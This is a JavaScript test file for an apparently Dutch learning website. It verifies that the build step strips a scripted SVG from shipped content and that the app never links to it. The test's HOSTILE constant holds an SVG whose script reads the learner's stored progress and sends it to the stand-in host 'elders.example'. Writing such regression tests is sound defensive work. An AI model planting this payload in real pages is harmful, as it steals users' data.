// A picture with a script in it never reaches the site, so it cannot read a
// learner's progress even on a host that sends no CSP header for SVG. The
// build's content step (scripts/content-files.mjs) is run here on shipped
// content plus a hostile SVG that a module shows and links to, the way
// Trunk's post-build hook runs it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { KEY, ROOT } from './lib/site.mjs';
import { launch } from './lib/browser.mjs';
import { serve } from './lib/server.mjs';
import { gateProblems, openPage } from './lib/gates.mjs';

const MODULE = 'inwoner/signalen-in-je-straat';
const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10"/>
<script>document.title = 'gestolen: ' + localStorage.getItem('${KEY}'); fetch('https://elders.example/?d=' + document.title)</script></svg>`;

test('a scripted SVG is refused by the build and cannot be opened on the site', async () => {
  const work = mkdtempSync(join(tmpdir(), 'weerbaar-hostile-'));
  const source = join(work, 'content');
  const site = join(work, 'site');
  cpSync(resolve(ROOT, 'content'), source, { recursive: true });
  writeFileSync(join(source, 'kwaad.svg'), HOSTILE);
  writeFileSync(join(source, 'folder.pdf'), '%PDF-1.4');
  const module = join(source, `${MODULE}.md`);
  // On the lesson's first page, right under the settings block.
  const [, settings, body] = readFileSync(module, 'utf8').match(/^(---\n[\s\S]*?\n---\n)([\s\S]*)$/);
  writeFileSync(module, `${settings}\n![Een straat](../kwaad.svg)\n\nBekijk [de tekening](../kwaad.svg) of [de folder](../folder.pdf).\n\n${body}`);
  // The build as Trunk leaves it before the post-build hook: content copied in.
  cpSync(resolve(ROOT, 'dist'), site, { recursive: true });
  rmSync(join(site, 'content'), { recursive: true });
  cpSync(source, join(site, 'content'), { recursive: true });
  execFileSync('node', [resolve(ROOT, 'scripts/content-files.mjs')], {
    env: { ...process.env, TRUNK_STAGING_DIR: site, WEERBAAR_CONTENT: source },
    stdio: 'pipe',
  });
  assert.ok(!existsSync(join(site, 'content/kwaad.svg')), 'the scripted SVG is not shipped');
  assert.ok(!existsSync(join(site, 'content/folder.pdf')), 'a file that is no module or picture is not shipped');
  assert.ok(existsSync(join(site, 'content/scenes/straat.svg')), 'safe pictures are shipped');
  assert.ok(existsSync(join(site, `content/${MODULE}.md`)));

  const browser = await launch();
  const server = await serve(site);
  try {
    const context = await browser.newContext();
    const page = await openPage(context, server.origin);
    await page.goto(server.url);
    await page.evaluate((key) => localStorage.setItem(key, '{"geheim":true}'), KEY);
    // Opened directly, as a link or a bookmark would: nothing is there to run.
    const direct = await page.goto(server.url + 'content/kwaad.svg');
    assert.equal(direct.status(), 404);
    assert.doesNotMatch(await page.title(), /gestolen/);
    // In the app the links are plain text, never a way to open the file.
    await page.goto(server.url + `index.html#/module/${MODULE}`);
    await page.locator('.what-to-do').waitFor();
    assert.equal(await page.locator('a[href*="kwaad.svg"], a[href*="folder.pdf"]').count(), 0);
    assert.ok((await page.getByText('de tekening').count()) > 0, 'the link text is kept');
    assert.doesNotMatch(await page.title(), /gestolen/);
    assert.deepEqual(page.collected.foreign, []);
    await context.close();
  } finally {
    await browser.close();
    await server.close();
    rmSync(work, { recursive: true, force: true });
  }
});
